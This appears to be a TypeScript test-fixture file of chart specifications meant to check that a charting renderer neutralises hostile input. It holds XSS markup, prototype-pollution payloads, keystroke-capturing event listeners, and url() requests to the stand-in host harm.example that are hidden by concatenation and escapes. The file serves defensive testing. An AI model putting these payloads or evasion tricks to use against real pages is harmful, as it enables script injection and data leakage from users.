/** Charts that a page shows without any harm, also when their sliders are moved: name → the specification. */

import { bars } from "../fixtures.js";

const { x, y } = bars.encoding;
const [top, ...others] = bars.params;

/** An address as soon as the slider is moved; no search for "url(" finds it. */
const behind = (start: string) =>
  `top > 5 ? 'u' + 'rl(https://harm.example/' + top + '.svg#x)' : '${start}'`;

export const inertCharts: Readonly<Record<string, object>> = {
  "a colour behind a slider": { mark: { type: "bar", fill: { expr: behind("red") } } },
  "an outline behind a slider": { mark: { type: "bar", stroke: { expr: behind("red") } } },
  "a colour of the data behind a slider": {
    transform: [...bars.transform, { calculate: behind("red"), as: "c" }],
    encoding: { x, y, color: { field: "c", type: "nominal", scale: null } },
  },
  "colours in a list behind a slider": {
    mark: { type: "bar", fill: { expr: `[${behind("red")}]` } },
  },
  "a panel's colour behind a slider": { view: { fill: { expr: behind("white") } } },
  "the background behind a slider": { background: { expr: behind("white") } },
  "the background of the configuration": { config: { background: { expr: behind("white") } } },
  "a label's colour behind a slider": {
    encoding: { x: { ...x, axis: { labelColor: { expr: behind("black") } } }, y },
  },
  "a legend's colour behind a slider": {
    encoding: {
      x,
      y,
      color: { field: "a", type: "nominal", legend: { symbolFillColor: { expr: behind("red") } } },
    },
  },
  "a letter behind a backslash behind a slider": {
    mark: {
      type: "bar",
      fill: { expr: "top > 5 ? '\\\\75 rl(https://harm.example/a.svg#x)' : 'red'" },
    },
  },
  "a pointer that is an address": {
    mark: { type: "bar", cursor: { expr: "'u' + 'rl(https://harm.example/a.png), auto'" } },
  },
  "a pointer of pictures": {
    mark: {
      type: "bar",
      cursor: { expr: "'-webkit-image-' + 'set(\"https://harm.example/a.png\" 1x), auto'" },
    },
  },
  "a pointer behind a slider": { mark: { type: "bar", cursor: { expr: behind("pointer") } } },
  "a gradient whose name is an address": {
    mark: {
      type: "bar",
      fill: {
        expr: "top > 5 ? {gradient: 'linear', id: 'a) u' + 'rl(https://harm.example/a', stops: [{offset: 0, color: 'u' + 'rl(https://harm.example/b)'}]} : 'red'",
      },
    },
  },
  "a font behind a slider": {
    mark: { type: "text", font: { expr: behind("serif") } },
    encoding: { x, y, text: { field: "a" } },
  },
  "a picture whose address is computed": {
    mark: { type: "image", width: 9, height: 9 },
    transform: [
      ...bars.transform,
      { calculate: "'https:' + '//harm.example/a.png'", as: "address" },
    ],
    encoding: { x, y, url: { field: "address" } },
  },
  "a title that computes markup": {
    title: { text: { expr: "'</figcaption><script>harm()</script>' + top" } },
  },
  "labels that are markup": {
    data: { values: [{ a: "<script>harm()</script>" }, { a: '"><i onclick=harm()>' }] },
    transform: [{ calculate: "top", as: "b" }],
  },
  "tips that are markup": {
    mark: { type: "bar", tooltip: { expr: "'<img src=x onerror=harm()>'" } },
  },
  "a tip with a picture": {
    transform: [...bars.transform, { calculate: "'https:' + '//harm.example/a.png'", as: "image" }],
    encoding: { x, y, tooltip: [{ field: "image" }, { field: "a", title: "<i onclick=harm()>" }] },
  },
  "a choice that is markup": {
    params: [
      top,
      {
        name: "kind",
        value: "</option></select><script>harm()</script>",
        bind: {
          input: "select",
          options: ["</option></select><script>harm()</script>", '" onclick="harm()'],
        },
      },
      others[1],
    ],
  },
  "a field of a kind that sends": {
    params: [
      top,
      ...others,
      { name: "file", bind: { input: "file", onchange: "harm()", src: "x" } },
    ],
  },
  "a field that would act": {
    params: [
      top,
      ...others,
      { name: "word", value: "", bind: { input: "text", onfocus: "harm()", autofocus: "" } },
    ],
  },
  "steps with a thousand decimals": {
    params: [
      { ...top, bind: { input: "range", min: 0, max: 9, step: Number.MIN_VALUE } },
      ...others,
    ],
  },
  "a slider from the end to the beginning": {
    params: [{ ...top, bind: { input: "range", min: 9, max: 1, step: -1 } }, ...others],
  },
  "data that change all objects": {
    data: JSON.parse(
      '{"values": [{"a": 1, "__proto__": {"harmed": true}}, {"a": 2, "constructor": 1}]}',
    ),
  },
  "a configuration that changes all objects": {
    config: JSON.parse('{"__proto__": {"harmed": true}, "bar": {"__proto__": {"harmed": true}}}'),
  },
  "fields with names of all objects": {
    transform: [
      ...bars.transform,
      { calculate: "1", as: "__proto__" },
      { calculate: "2", as: "constructor" },
    ],
  },
  "a parameter that hears all keys": {
    params: [...bars.params, { name: "keys", select: { type: "point", on: "window:keydown" } }],
  },
  "a parameter that stops all clicks": {
    params: [...bars.params, { name: "clicks", select: { type: "point", on: "window:click!" } }],
  },
  "a parameter that hears the search": {
    params: [...bars.params, { name: "words", select: { type: "point", on: "#search:input" } }],
  },
  "a parameter that a clock sets": {
    params: [...bars.params, { name: "beat", select: { type: "point", on: "timer{1}" } }],
  },
  "events that the configuration allows": {
    config: { events: { window: true, selector: true, timer: true, defaults: { prevent: true } } },
    params: [...bars.params, { name: "clicks", select: { type: "point", on: "window:click!" } }],
  },
  "null for a transformation": { transform: [...bars.transform, null] },
  "no data": { data: { values: [] } },
  "a width of nothing": { width: 0 },
};
